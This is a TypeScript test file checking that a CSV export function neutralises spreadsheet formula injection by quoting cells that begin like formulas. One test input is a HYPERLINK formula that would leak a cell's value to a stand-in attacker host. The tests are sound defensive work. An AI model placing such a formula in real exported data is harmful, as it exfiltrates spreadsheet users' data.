import { toCsv } from './report-response';

describe('toCsv', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\tTab', "'\tTab"],
    ['\rReturn', `"'\rReturn"`],
  ])('should prefix a cell with a quote when it begins like a formula: %j', async (cell, written) => {
    await expect(toCsv([{ name: cell, n: 1 }], ['name', 'n'])).resolves.toBe(`name,n\r\n${written},1\r\n`);
  });

  it('should leave other text and numbers as they are when they cannot start a formula', async () => {
    const rows = [
      { name: 'Sales = Ops', n: 0 },
      { name: 'A+B', n: 216 },
    ];
    await expect(toCsv(rows, ['name', 'n'])).resolves.toBe('name,n\r\nSales = Ops,0\r\nA+B,216\r\n');
  });
});
